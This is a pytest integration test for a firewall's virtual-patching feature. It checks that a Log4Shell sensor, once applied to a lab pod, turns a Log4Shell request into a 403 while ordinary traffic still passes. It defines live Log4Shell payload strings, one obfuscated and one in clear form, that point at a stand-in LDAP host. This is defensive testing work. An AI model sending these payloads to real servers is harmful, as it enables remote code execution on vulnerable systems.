"""Virtual patching end to end on the lab: the orders pod's image carries Log4Shell
(CVE-2021-44228), the controller proposes the Log4Shell sensor for orders' group, and once an
operator applies it through the API the enforcer following the controller answers a Log4Shell
request into orders with 403, where it passed before; an ordinary request still passes."""

from __future__ import annotations

import os
import subprocess
from collections.abc import Iterator
from typing import Any

import pytest

from tests.api.lab import Setup, enforced_lab
from tests.api.responding import wait_for
from tests.api.vulns import runs, upload, vuln

pytestmark = [pytest.mark.root, pytest.mark.slow]

ORDERS = "http://10.77.0.11:8080/"
POLICY = """\
apiVersion: stockade.dev/v1
kind: FirewallPolicy
metadata: {name: vpatch}
spec:
  groups:
    - {name: orders, selector: {namespace: shop, pods: [orders]}, mode: protect}
  rules:
    - {name: into-orders, from: [any], to: [orders], ports: [tcp/8080]}
"""
# an obfuscated lookup, as scanners on the internet send it
EXPLOIT = "${${lower:j}${::-n}di:ldap://198.51.100.7:1389/a}"


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Setup]:
    yield from enforced_lab(tmp_path_factory, f"vp{os.getpid() % 10000}-")


def status(lab: Setup, header: str | None = None) -> str:
    """The HTTP status payments gets from orders (``000``: no answer)."""
    extra = ["-H", f"X-Api-Version: {header}"] if header else []
    proc = subprocess.run(
        [
            *("ip", "netns", "exec", f"{lab.prefix}payments"),
            *("curl", "-s", "-m", "2", "-o", "/dev/null", "-w", "%{http_code}", *extra, ORDERS),
        ],
        capture_output=True,
        text=True,
        timeout=10,
    )
    return proc.stdout.strip()


def applied_versions(lab: Setup) -> list[Any]:
    with lab.controller.client("reader") as c:
        page = c.get("/api/v1/events", params={"kind": "firewall.policy_applied"}).json()
    return [e["data"]["version"] for e in page["events"] if e["source"] == "enforcer"]


def test_an_applied_proposal_blocks_log4shell_into_the_vulnerable_pod(lab: Setup) -> None:
    controller = lab.controller
    with controller.client("operator") as c:
        answer = c.put("/api/v1/firewall/policy", content=POLICY.encode())
    assert answer.status_code == 200, answer.text
    first = answer.json()["version"]
    wait_for(lambda: first in applied_versions(lab), what="the policy applied")
    assert status(lab, EXPLOIT) == "200"  # no virtual patch yet: the exploit reaches the server

    runs(controller, "shop/orders", "registry.local/shop/orders", 4)
    upload(controller, "registry.local/shop/orders", 4, [vuln("CVE-2021-44228", "log4j-core")])
    with controller.client("reader") as c:
        proposals = c.get("/api/v1/virtual-patches", params={"pending": "true"}).json()["items"]
    assert [(p["group"], p["sensor"], p["cves"]) for p in proposals] == [
        ("orders", "waf.log4shell", ["CVE-2021-44228"])
    ]
    with controller.client("operator") as c:
        done = c.post(
            "/api/v1/virtual-patches", json={"group": "orders", "sensor": "waf.log4shell"}
        )
    assert done.status_code == 200, done.text
    wait_for(lambda: done.json()["version"] in applied_versions(lab), what="the patch applied")
    wait_for(lambda: status(lab, EXPLOIT) == "403", timeout=10, what="the block")
    assert status(lab) == "200"  # ordinary requests still pass
    assert status(lab, "${jndi:ldap://198.51.100.7/a}") == "403"  # the clear form too
    assert lab.enforcer.poll() is None and "Traceback" not in lab.log.read_text()
